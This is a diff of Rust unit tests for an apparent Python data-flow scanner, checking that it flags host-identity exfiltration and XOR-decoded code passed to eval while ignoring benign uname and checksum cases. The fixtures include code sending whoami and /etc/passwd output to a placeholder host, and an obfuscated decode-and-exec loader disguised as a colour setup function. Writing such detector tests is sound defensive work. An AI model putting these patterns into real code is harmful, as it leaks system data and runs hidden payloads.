@@ -488,3 +488,43 @@ fn a_secret_spelled_into_a_dns_name_is_sent() {
     let configured = py("import os, socket\nhost = os.environ.get('NTP_HOST', 'pool.example.invalid')\nsocket.gethostbyname(host)\n");
     assert!(configured.is_empty(), "{configured:?}");
 }
+
+#[test]
+fn output_of_a_command_that_names_the_machine_is_host_identity() {
+    let popen = "import os\nfrom urllib import request, parse\nwho = os.popen('whoami').read()\nusers = os.popen('cat /etc/passwd').read()\nbody = parse.urlencode({'u': who, 'p': users}).encode()\nrequest.urlopen(request.Request('https://in.example.invalid/c', data=body))\n";
+    let found = py(popen);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
+        "{found:?}"
+    );
+    let argv = "import subprocess, requests\nname = subprocess.check_output(['hostname']).decode()\nrequests.post('https://in.example.invalid/c', json={'n': name})\n";
+    assert!(py(argv).iter().any(|f| f.0 == FlowKind::HostInfoToNetwork));
+}
+
+#[test]
+fn output_of_a_command_that_picks_a_build_is_not_host_identity() {
+    // `uname -m` chooses which archive to download; the machine's name is not in it.
+    let text = "import os, subprocess, requests\narch = subprocess.check_output(['uname', '-m']).decode().strip()\nkernel = os.popen('uname').read().strip()\nrequests.get(f'https://dl.example.invalid/tool-{kernel}-{arch}.tar.gz')\nrev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\nrequests.post('https://ci.example.invalid/builds', json={'rev': rev})\n";
+    let found = py(text);
+    assert!(
+        found.iter().all(|f| f.0 != FlowKind::HostInfoToNetwork),
+        "{found:?}"
+    );
+}
+
+#[test]
+fn a_loop_that_xors_a_constant_with_a_key_decodes_what_compile_runs() {
+    let text = "def setup_colours():\n    blob = \"\\x5c\\x58\\x48\\x45\\x46\\x15\\x5c\\x46\\x19\\x48\\x58\\x51\\x4c\\x55\\x59\\x44\\x55\\x1c\\x42\\x4c\\x51\\x49\\x45\\x57\\x53\\x52\\x42\\x4a\\x3e\\x5d\\x52\\x18\\x45\\x5f\\x58\\x4c\"\n    key = \"31415926535897932384626433832795028841971\"\n    out = \"\"\n    for i in range(len(blob)):\n        c = blob[i]\n        k = key[i % len(key)]\n        out += chr(ord(c) ^ ord(k))\n    eval(compile(out, '<string>', 'exec'))\n";
+    let found = py(text);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::DecodedToExec),
+        "{found:?}"
+    );
+}
+
+#[test]
+fn a_loop_that_xors_runtime_bytes_for_a_checksum_runs_nothing() {
+    let text = "def checksum(data, key):\n    out = \"\"\n    for i in range(len(data)):\n        out += chr(ord(data[i]) ^ ord(key[i % len(key)]))\n    return out\n\ndef sign(payload):\n    digest = checksum(payload, 'k')\n    print(digest)\n";
+    let found = py(text);
+    assert!(found.is_empty(), "{found:?}");
+}
